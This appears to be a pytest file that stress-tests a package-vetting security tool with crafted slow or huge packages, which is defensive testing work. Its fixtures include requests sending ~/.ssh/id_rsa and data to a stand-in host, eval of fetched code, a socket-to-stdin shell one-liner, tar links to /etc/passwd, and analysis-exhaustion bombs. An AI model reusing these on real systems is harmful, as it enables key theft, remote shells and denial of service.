"""Attacks on vet's running time and memory: small hostile packages that made the analysis
quadratic (tree-sitter ``.parent`` walks, folding), or the report huge. Each runs the real CLI
(``python -m mcpward vet X --offline --format json``) in a child process under a timeout; a
wrapper process reports the child's peak RSS (``getrusage(RUSAGE_CHILDREN)``)."""

from __future__ import annotations

import gzip
import io
import json
import os
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import pytest

#: Generous for a shared, loaded 2-core machine; the unbounded passes took minutes.
SECONDS = 60.0
MEGABYTES = 768

_WRAPPER = """
import json, resource, subprocess, sys, time
started = time.monotonic()
done = subprocess.run(sys.argv[2:], capture_output=True, timeout=float(sys.argv[1]))
print(json.dumps({
    "seconds": time.monotonic() - started,
    "rss_mb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024,
    "code": done.returncode,
    "stdout": done.stdout.decode("utf-8", "replace"),
    "stderr": done.stderr.decode("utf-8", "replace")[-4000:],
}))
"""


def run_vet_cli(archive: Path, cache: Path, *options: str) -> dict[str, object]:
    command = [
        sys.executable,
        "-m",
        "mcpward",
        "vet",
        str(archive),
        "--offline",
        "--format",
        "json",
        *options,
    ]
    command += ["--cache-dir", str(cache)]
    wrapper = [sys.executable, "-c", _WRAPPER, str(SECONDS), *command]
    outcome = subprocess.run(wrapper, capture_output=True, timeout=SECONDS + 30, check=False)
    assert outcome.returncode == 0, outcome.stderr.decode()[-2000:]  # the wrapper's timeout fired
    result: dict[str, object] = json.loads(outcome.stdout)
    assert "Traceback" not in str(result["stderr"]), result["stderr"]
    assert result["seconds"] < SECONDS  # type: ignore[operator]
    assert result["rss_mb"] < MEGABYTES, result["rss_mb"]  # type: ignore[operator]
    return result


def npm_tgz(
    path: Path,
    files: dict[str, bytes],
    *,
    extra: bytes = b"",
    level: int = 9,
) -> Path:
    """A gzipped npm tarball of ``files`` (under ``package/``), then ``extra``: whole member
    headers (of members without data) made by :func:`_symlinks`."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in {"package.json": b'{"name": "slow-mcp", "version": "1.0.0"}', **files}.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        archive.fileobj.write(extra)  # type: ignore[union-attr]
        archive.offset += len(extra)
    path.write_bytes(gzip.compress(buffer.getvalue(), compresslevel=level))
    return path


def report_of(result: dict[str, object]) -> dict[str, object]:
    assert result["code"] in (0, 1, 4), result["stderr"]
    report: dict[str, object] = json.loads(str(result["stdout"]))
    return report


CONCAT = b"const x = " + b'"a"+' * 20_000 + b'"a";\nfetch(x);\n'
TEMPLATES = b"const t = " + b"`${" * 3_000 + b"1" + b"}`" * 3_000 + b";\n"
DOUBLING = (
    b'const a0 = "https://collect.example.net/?q=";\n'
    + b"".join(f"const a{i} = `${{a{i - 1}}}${{a{i - 1}}}`;\n".encode() for i in range(1, 200))
    + b"".join(
        f"fetch(a{i % 200}, {{ body: a{i % 200} + a{(i * 7) % 200} }});\n".encode() for i in range(4_000)
    )
)
BIG_CONSTANT = (
    b'const A = "' + b"x" * 16_000 + b' phan@giftshop.club";\n' + b"send({ bcc: A, to: `${A}` });\n" * 20_000
)
PYTHON_CONCAT = b"x = " + b'"a" + ' * 20_000 + b'"a"\nrequests.post(x)\n'
#: The threat rules' data flow: every name feeds the next and every line is a sink, in one
#: function, so labels must travel the whole chain and every call asks for its arguments' labels.
FLOW_CHAIN_JS = (
    b"function f(u) {\n  let a0 = fetch(u);\n"
    + b"".join(
        f"  let a{i} = a{i - 1} + a{(i * 7) % i} + a{(i * 13) % i};\n".encode() for i in range(1, 20_000)
    )
    + b"".join(f"  eval(a{i} + a{(i * 3) % 20_000});\n".encode() for i in range(0, 20_000))
    + b"}\n"
)
FLOW_CHAIN_PY = (
    b"import requests\n\ndef f(u):\n    a0 = requests.get(u).text\n"
    + b"".join(f"    a{i} = a{i - 1} + a{(i * 7) % i} + a{(i * 13) % i}\n".encode() for i in range(1, 8_000))
    + b"".join(f"    exec(a{i} + a{(i * 3) % 8_000})\n".encode() for i in range(0, 8_000))
)

#: Flows across functions: thousands of methods of one name (each call could reach them all)
#: and a chain of helpers each passing its argument to the next and returning it.
SAME_NAME_METHODS_PY = b"import requests\n\n" + b"".join(
    f"class C{i}:\n    def run(self, x):\n        self.run(x + {i})\n        return self.run(x)\n"
    f"    def go(self):\n        return requests.post('u', data=self.run(open('~/.ssh/id_rsa').read()))\n".encode()
    for i in range(3_500)
)
HELPER_CHAIN_PY = (
    b"import requests\n\n"
    + b"".join(
        f"def h{i}(a, b):\n    c = h{i + 1}(a, b) + h{(i * 7) % 3_000}(b, a)\n    return c + a\n".encode()
        for i in range(3_000)
    )
    + b"def h3000(a, b):\n    return requests.get(a).text\n"
)
HELPER_CHAIN_JS = (
    b"".join(
        f"function h{i}(a, b) {{ const c = h{i + 1}(a, b) + h{(i * 7) % 3_000}(b, a); return c + a; }}\n".encode()
        for i in range(3_000)
    )
    + b"function h3000(a) { return fetch(a); }\neval(h0('u', 'v'));\n"
)
#: A file that is not Python whose string literals are all Python code with a shell in it: each
#: is analysed as a module of its own (issue 22), so their number and size must be bounded.
CODE_IN_STRINGS_PY = b"$ run these\n" + b"".join(
    b'python -c "import os,socket;s=socket.socket();x='
    + b'\\"a\\"+' * 10
    + b'\\"a\\";os.dup2(s.fileno(),0);exec(x)"\n'
    for _ in range(2_000)
)


@pytest.mark.parametrize(
    "name,source",
    [
        ("index.js", CONCAT),
        ("index.js", TEMPLATES),
        ("index.js", DOUBLING),
        ("index.js", BIG_CONSTANT),
        ("server.py", PYTHON_CONCAT),
        ("index.js", FLOW_CHAIN_JS),
        ("server.py", FLOW_CHAIN_PY),
        ("server.py", SAME_NAME_METHODS_PY),
        ("server.py", HELPER_CHAIN_PY),
        ("index.js", HELPER_CHAIN_JS),
        ("server.py", CODE_IN_STRINGS_PY),
    ],
    ids=[
        "concatenation",
        "nested templates",
        "doubling constants",
        "one big constant",
        "python concatenation",
        "a flow through every line",
        "a python flow through every line",
        "thousands of methods of one name",
        "a chain of python helpers",
        "a chain of javascript helpers",
        "thousands of strings of code in a file that is not python",
    ],
)
def test_hostile_sources_are_analysed_in_bounded_time_and_memory(
    tmp_path: Path, name: str, source: bytes
) -> None:
    archive = npm_tgz(tmp_path / "x.tgz", {name: source})
    report_of(run_vet_cli(archive, tmp_path / "cache"))


def test_a_four_kilobyte_archive_cannot_run_for_minutes(tmp_path: Path) -> None:
    """A 4 MB chain of additions compresses to a few KB: its tree is millions of nodes deep."""
    source = b"x = " + b"a+" * 1_950_000 + b"a;\n"
    archive = npm_tgz(tmp_path / "x.tgz", {"index.js": source})
    assert archive.stat().st_size < 16 * 1024
    report = report_of(run_vet_cli(archive, tmp_path / "cache"))
    assert report["verdict"] != "pass"  # code that was not analysed is not passed quietly
    assert any(f["rule"] == "analysis-incomplete" for f in report["findings"])  # type: ignore[attr-defined,index]


def test_many_files_share_one_analysis_budget(tmp_path: Path) -> None:
    """Each file within its own limit, together past the package's time: the budget is one for
    the package (here 4 s by ``--time-limit``; 30 s by default), and what is left unread is
    reported, not passed."""

    def chain() -> bytes:  # random pieces, so that the archive is not refused as a bomb
        digits = os.urandom(6_000).hex().encode()
        return b"x = " + b"+".join(b'"%s"' % digits[i : i + 8] for i in range(0, 12_000, 8)) + b";\n"

    # Level 1: 48 MB of hex digits took 10 s to compress at 9.
    archive = npm_tgz(tmp_path / "x.tgz", {f"lib/f{i}.js": chain() for i in range(2_000)}, level=1)
    started = time.monotonic()
    report = report_of(run_vet_cli(archive, tmp_path / "cache", "--time-limit", "4"))
    assert time.monotonic() - started < 4 + 30
    assert report["verdict"] != "pass"
    assert any(f["rule"] == "analysis-incomplete" for f in report["findings"])  # type: ignore[attr-defined,index]


def _symlinks(count: int) -> bytes:
    """The headers of ``count`` members ``package/lN``, links to /etc/passwd, as tarfile writes
    them (one is made by tarfile; the others differ in the name and its checksum only): made
    by ``tarfile`` one by one, 120,000 took 15 s of the test's 17."""
    link = tarfile.TarInfo("package/l0")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    template = link.tobuf(tarfile.USTAR_FORMAT)
    assert len(template) == tarfile.BLOCKSIZE
    headers = []
    for index in range(count):
        header = bytearray(template)
        header[0:100] = f"package/l{index}".encode().ljust(100, b"\0")
        header[148:156] = b" " * 8  # the checksum is over the header with its own field blank
        header[148:155] = b"%06o\0" % sum(header)
        headers.append(bytes(header))
    return b"".join(headers)


def test_findings_per_rule_are_capped_with_a_summary(tmp_path: Path) -> None:
    archive = npm_tgz(tmp_path / "x.tgz", {}, extra=_symlinks(5_000), level=1)
    result = run_vet_cli(archive, tmp_path / "cache")
    report = report_of(result)
    unsafe = [f for f in report["findings"] if f["rule"] == "archive-unsafe-member"]  # type: ignore[attr-defined,index]
    assert 1 < len(unsafe) <= 101
    assert any("4900 more" in f["message"] for f in unsafe)
    assert len(str(result["stdout"])) < 512 * 1024
    assert report["verdict"] == "review"


def test_hundreds_of_thousands_of_members_are_refused_quickly(tmp_path: Path) -> None:
    archive = npm_tgz(tmp_path / "x.tgz", {}, extra=_symlinks(120_000), level=1)
    result = run_vet_cli(archive, tmp_path / "cache")
    assert result["code"] == 2
    assert "more than" in str(result["stderr"]) and "members" in str(result["stderr"])
    assert len(str(result["stdout"])) < 1024


def test_blobs_do_not_stay_in_memory_while_code_is_parsed(tmp_path: Path) -> None:
    """Two sides of 180 MB of incompressible data each (under every archive cap) and a file
    of code: vet keeps only what it reads."""
    blobs = {f"assets/blob{i}.bin": os.urandom(30 * 1024 * 1024) for i in range(6)}
    code = {"index.js": b"x = " + b"a+" * 200_000 + b"a;\n"}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in {
            "package.json": b'{"name": "big-mcp", "version": "1.0.0"}',
            **blobs,
            **code,
        }.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    target = tmp_path / "big.tgz"
    target.write_bytes(gzip.compress(buffer.getvalue(), compresslevel=1))
    del blobs, buffer
    command = [sys.executable, "-m", "mcpward", "vet", str(target), "--baseline", str(target), "--offline"]
    command += ["--format", "json", "--cache-dir", str(tmp_path / "cache")]
    wrapper = [sys.executable, "-c", _WRAPPER, str(SECONDS), *command]
    outcome = subprocess.run(wrapper, capture_output=True, timeout=SECONDS + 30, check=False)
    assert outcome.returncode == 0, outcome.stderr.decode()[-2000:]
    result = json.loads(outcome.stdout)
    assert result["code"] in (0, 1), result["stderr"]
    assert result["rss_mb"] < 300, result["rss_mb"]  # less than the two sides' blobs alone


def test_a_python_file_of_a_million_names_is_not_parsed(tmp_path: Path) -> None:
    """CPython's parser took 700 MB for this 2 MB file; vet reports it instead."""
    source = b"x = [" + b"a," * 490_000 + b"]\n"
    archive = npm_tgz(tmp_path / "x.tgz", {"server.py": source})
    result = run_vet_cli(archive, tmp_path / "cache")
    assert result["rss_mb"] < 400, result["rss_mb"]
    report = report_of(result)
    assert any(f["rule"] == "analysis-incomplete" for f in report["findings"])  # type: ignore[attr-defined,index]
